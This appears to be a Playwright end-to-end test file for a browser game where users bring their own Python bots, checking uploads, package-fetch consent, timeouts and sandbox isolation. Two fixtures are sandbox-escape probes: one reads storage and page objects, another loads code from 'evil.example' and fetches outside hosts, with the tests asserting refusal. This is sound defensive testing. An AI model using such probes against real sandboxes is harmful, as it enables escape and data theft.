"""A bot of one's own: brought, asked about, closed off, stopped; it plays the player and ours."""

import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from e2e.axe import findings
from e2e.hands import until
from e2e.player import Player

WAIT = 60_000
HEAD = "def think(position, seat, chance, budget):\n"
FIRST = f"from engine.splits import GAME\n{HEAD}    return next(GAME.moves(position, seat))\n"
LOOPS = f"{HEAD}    while True:\n        pass\n"
RAISES = f"{HEAD}    return 1 / 0\n"
NEEDS = f"import hopper\n{FIRST}"
METADATA = "Metadata-Version: 2.1\nVersion: 1.0\n"
WHEEL = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
ZERO = "It raised ZeroDivisionError: division by zero (bot.py:2)."
BROKEN = "This Python does not run: SyntaxError: '(' was never closed (bot.py, line 1)"
HOSTS = ("https://pypi.org", "https://files.pythonhosted.org")


def wheel(name: str, *requires: str) -> bytes:
    """A wheel with one module whose `think` plays the first move."""
    made = io.BytesIO()
    needs = "".join(f"Requires-Dist: {each}\n" for each in requires)
    info = f"{name}-1.0.dist-info"
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(f"{name}.py", FIRST)
        archive.writestr(f"{info}/METADATA", f"{METADATA}Name: {name}\n{needs}")
        archive.writestr(f"{info}/WHEEL", WHEEL)
        archive.writestr(f"{info}/RECORD", "")
    return made.getvalue()


@pytest.fixture
def bench(open_page: Callable[..., Page]) -> Page:
    """Where bots for Splits are brought, in English."""
    return open_page("/#/bring/splits", locale="en", reduced_motion="reduce")


class Elsewhere:
    """A browser in which other hosts answer, and what they were asked."""

    def __init__(self, page: Page, site: str) -> None:
        self.page = page
        self.asked: list[str] = []
        self.files: dict[str, bytes] = {}
        away = re.compile(rf"^https?://(?!{re.escape(site.partition('//')[2])})")
        page.context.route(away, self._answer)

    def _answer(self, route: Route) -> None:
        url = route.request.url
        self.asked.append(url)
        found = self.files.get(url)
        headers = {"Access-Control-Allow-Origin": "*"}
        if url.endswith("/"):
            headers["Content-Type"] = "application/vnd.pypi.simple.v1+json"
        route.fulfill(status=200 if found else 404, headers=headers, body=found or b"")


@pytest.fixture
def elsewhere(browser: Browser, site: str) -> Iterator[Elsewhere]:
    context = browser.new_context(base_url=site, locale="en", reduced_motion="reduce")
    page = context.new_page()
    page.goto("/#/bring/splits")
    yield Elsewhere(page, site)
    context.close()


def bring(page: Page, code: str) -> None:
    area = page.get_by_label("The bot as Python")
    area.fill(code)
    page.get_by_role("button", name="Bring it in").click()


def brought(page: Page, code: str) -> None:
    bring(page, code)
    expect(page.get_by_text("Your bot is here: think")).to_be_visible(timeout=WAIT)


def trial(page: Page, matches: int, seconds: str = "10 seconds") -> None:
    page.get_by_label("Matches against each").select_option(str(matches))
    page.get_by_label("Time to think").select_option(seconds)
    page.get_by_role("button", name="Let them play").click()
    expect(page.get_by_text(f"{matches} of {matches} matches played.")).to_be_visible(timeout=WAIT)


def test_a_pasted_bot_plays_ours_and_every_match_can_be_watched(bench: Page) -> None:
    brought(bench, FIRST)
    trial(bench, 2)
    row = bench.locator(".score-table tbody tr")
    expect(row).to_contain_text("Bot (Easy)")
    assert row.locator("td").all_inner_texts()[0] == "2"
    assert row.locator("td").all_inner_texts()[-1] == "0"
    bench.get_by_text("All matches").click()
    expect(bench.locator(".match-list li")).to_have_count(2)
    bench.get_by_role("button", name="Watch").first.click()
    expect(bench.locator("input[type=range]")).to_be_visible(timeout=WAIT)


def test_a_pasted_bot_plays_a_whole_match_against_the_player(bench: Page) -> None:
    brought(bench, FIRST)
    bench.get_by_role("button", name="Play against it").click()
    match = Player(bench, "mouse").to_the_end()
    assert [seat.get("level") for seat in match["seats"]] == [None, "own"]
    expect(bench.locator(".ranking")).to_contain_text("Your bot")


def test_a_bot_that_never_stops_is_stopped_and_loses(bench: Page) -> None:
    brought(bench, LOOPS)
    trial(bench, 2, "one second")
    bench.get_by_text("All matches").click()
    lines = bench.locator(".match-list li").all_inner_texts()
    assert len(lines) == 2
    for line in lines:
        assert line.startswith("Lost against Bot (Easy)")
        assert "It thought longer than 1 s." in line


def test_a_trial_can_be_stopped_in_the_middle_of_a_thought(bench: Page) -> None:
    brought(bench, LOOPS)
    bench.get_by_role("button", name="Let them play").click()
    expect(bench.get_by_text("0 of 10 matches played …")).to_be_visible(timeout=WAIT)
    bench.get_by_role("button", name="Stop").click()
    expect(bench.get_by_text("0 of 10 matches played.")).to_be_visible()
    brought(bench, FIRST)


def test_a_match_waits_for_a_better_bot(bench: Page) -> None:
    brought(bench, RAISES)
    bench.get_by_role("button", name="Play against it").click()
    until(bench, "match?.begun && document.querySelector('main .main:enabled')")
    bench.locator("main .main").click()
    expect(bench.get_by_text(ZERO)).to_be_visible(timeout=WAIT)
    address = bench.evaluate("location.hash")
    bench.evaluate("location.hash = '#/bring/splits'")
    brought(bench, FIRST)
    bench.evaluate("(hash) => { location.hash = hash; }", address)
    until(bench, "match.scene.turn === 2")


def test_it_is_said_why_a_bot_cannot_come(bench: Page) -> None:
    for code, line in (
        ("def think(", BROKEN),
        ("a = 1", "It has no function that takes position, seat, chance and budget."),
        ("import xml.etree, missing_here_too", "needs missing_here_too"),
    ):
        bring(bench, code)
        standing = bench.get_by_role("region", name="Your bot")
        expect(standing).to_contain_text(line, timeout=WAIT)
        expect(bench.get_by_role("button", name="Play against it")).to_be_hidden()


def test_a_wheel_from_a_file(bench: Page, tmp_path: Path) -> None:
    path = tmp_path / "hopper-1.0-py3-none-any.whl"
    path.write_bytes(wheel("hopper"))
    bench.get_by_label("A wheel").check()
    bench.get_by_label("Wheel from a file").set_input_files(path)
    bench.get_by_role("button", name="Bring it in").click()
    expect(bench.get_by_text("Your bot is here: think")).to_be_visible(timeout=WAIT)
    trial(bench, 2)


def test_a_wheel_from_an_address_after_consent_to_its_host_alone(elsewhere: Elsewhere) -> None:
    page, url = elsewhere.page, "https://bots.example/files/hopper-1.0-py3-none-any.whl"
    elsewhere.files[url] = wheel("hopper")
    page.get_by_label("A wheel").check()
    page.get_by_label("or from an address").fill(url)
    page.get_by_role("button", name="Bring it in").click()
    expect(page.locator(".hosts li")).to_have_text(["https://bots.example"], timeout=WAIT)
    assert elsewhere.asked == []
    page.get_by_role("button", name="Yes, fetch it").click()
    expect(page.get_by_text("Your bot is here: think")).to_be_visible(timeout=WAIT)
    assert elsewhere.asked == [url]
    trial(page, 2)


def test_nothing_is_fetched_without_consent(elsewhere: Elsewhere) -> None:
    page = elsewhere.page
    bring(page, NEEDS)
    expect(page.get_by_text("Your bot needs hopper.")).to_be_visible(timeout=WAIT)
    assert page.locator(".hosts li").all_inner_texts() == list(HOSTS)
    page.get_by_role("button", name="No", exact=True).click()
    expect(page.get_by_role("region", name="Your bot")).to_contain_text("Nothing was fetched")
    page.wait_for_load_state("networkidle")
    assert elsewhere.asked == []


def test_what_a_bot_needs_is_fetched_from_the_hosts_that_were_named(elsewhere: Elsewhere) -> None:
    page = elsewhere.page
    file = "https://files.pythonhosted.org/packages/hopper-1.0-py3-none-any.whl"
    known = {"filename": file.rpartition("/")[2], "url": file, "hashes": {}}
    index = {"meta": {"api-version": "1.1"}, "name": "hopper", "files": [known]}
    elsewhere.files["https://pypi.org/simple/hopper/"] = json.dumps(index).encode()
    elsewhere.files[file] = wheel("hopper")
    bring(page, NEEDS)
    page.get_by_role("button", name="Yes, fetch it").click(timeout=WAIT)
    expect(page.get_by_text("Your bot is here: think")).to_be_visible(timeout=WAIT)
    assert elsewhere.asked == ["https://pypi.org/simple/hopper/", file]


SPY = f"""
import js

def store():
    try:
        js.indexedDB.open("grasveld")
        return "opened"
    except Exception as error:
        return "refused"

print("origin", js.self.origin)
print("storage", store())
print("page", hasattr(js, "document"), hasattr(js, "parent"), hasattr(js, "localStorage"))
{HEAD}    return "-"
"""


def test_a_bot_sees_no_page_and_no_storage(elsewhere: Elsewhere) -> None:
    page = elsewhere.page
    brought(page, SPY)
    page.get_by_text("What it prints").click()
    lines = page.locator("pre").inner_text().splitlines()
    assert lines[0] == "origin null"
    assert lines[1] == "storage refused"
    assert lines[2] == "page False False False"


REACH = f"""
import asyncio, js
from pyodide.ffi import to_js

module = to_js({{"type": "module"}}, dict_converter=js.Object.fromEntries)
js.Worker.new("data:text/javascript,import('https://evil.example/nested.js')", module)

async def reach(url):
    try:
        await js.fetch(url)
        print(url, "reached")
    except Exception:
        print(url, "refused")

for url in ("https://evil.example/", "https://pypi.org/"):
    asyncio.ensure_future(reach(url))
{HEAD}    return "-"
"""


def test_a_bot_reaches_no_host_that_nobody_agreed_to(elsewhere: Elsewhere) -> None:
    page = elsewhere.page
    brought(page, REACH)
    page.get_by_text("What it prints").click()
    expect(page.locator("pre")).to_contain_text("https://evil.example/ refused", timeout=WAIT)
    expect(page.locator("pre")).to_contain_text("https://pypi.org/ refused", timeout=WAIT)
    assert elsewhere.asked == []


def test_the_frame_has_no_origin_and_may_only_run_scripts(bench: Page, site: str) -> None:
    brought(bench, FIRST)
    assert bench.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    frame = next(frame for frame in bench.frames if frame.url == f"{site}/guest.html")
    assert frame.evaluate("self.origin") == "null"
    refused = "(() => { try { return !!parent.document } catch (error) { return error.name } })()"
    assert frame.evaluate(refused) == "SecurityError"
    policy = bench.request.get("/guest.html").headers["content-security-policy"]
    assert "sandbox allow-scripts" in policy
    assert "frame-ancestors 'self'" in policy


@pytest.mark.parametrize("game", ["splits", "olifantenpad"])
def test_a_notebook_runs_to_its_end_by_keyboard_and_its_bot_is_taken_along(
    open_page: Callable[..., Page], game: str
) -> None:
    page = open_page(f"/#/notebook/{game}", locale="en")
    last = page.get_by_role("textbox").last
    last.wait_for(timeout=WAIT)
    last.press("Shift+Enter")
    expect(page.locator(".code-cell .out").last).to_contain_text("Done.", timeout=2 * WAIT)
    expect(page.locator(".code-cell .picture canvas")).to_have_count(2)
    assert findings(page) == []
    page.get_by_role("button", name="Take this bot along").click()
    expect(page.get_by_label("The bot as Python")).to_have_value(re.compile("^from engine"))
    page.get_by_role("button", name="Bring it in").click()
    expect(page.get_by_text("Your bot is here: think")).to_be_visible(timeout=WAIT)
    assert findings(page) == []


def test_a_cell_that_never_ends_can_be_stopped(open_page: Callable[..., Page]) -> None:
    page = open_page("/#/notebook/splits", locale="en")
    cell = page.locator(".code-cell").first
    cell.get_by_role("textbox").fill("print('here')\nwhile True: pass")
    cell.get_by_role("button", name="Run").click()
    expect(cell.locator("pre")).to_have_text("here", timeout=WAIT)
    cell.get_by_role("button", name="Stop").click()
    expect(cell.get_by_text("The bot was stopped.")).to_be_visible()
    cell.get_by_role("textbox").fill("1 + 1")
    cell.get_by_role("button", name="Run").click()
    expect(cell.locator("pre")).to_have_text("2", timeout=WAIT)
